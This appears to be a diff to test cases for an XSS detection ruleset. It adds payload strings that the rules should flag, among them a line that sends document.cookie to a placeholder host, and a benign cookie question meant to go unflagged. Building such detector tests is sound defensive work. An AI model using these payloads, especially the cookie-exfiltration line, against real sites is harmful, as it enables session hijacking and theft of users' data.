@@ -71,6 +71,8 @@ RULE_CASES: dict[str, list[str]] = {
         "prompt`1`",
         "top['al'+'ert'](1)",
         "[1].find(alert)",
+        "alert?.(1)",
+        "new Image().src='//x.example/?'+document.cookie",
     ],
     "HG-XSS-006": ["{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}"],
     "HG-XSS-007": [
@@ -101,6 +103,7 @@ BENIGN = [
     '<svg><animate attributeName="opacity" from="0" to="1" dur="1s"/></svg>',
     '<p style="color:#333;background:url(/bg.png)">hi</p>',
     "<math><mi>x</mi><mo>=</mo><mn>2</mn></math>",
+    "How do I read document.cookie in JavaScript?",
 ]
 
 
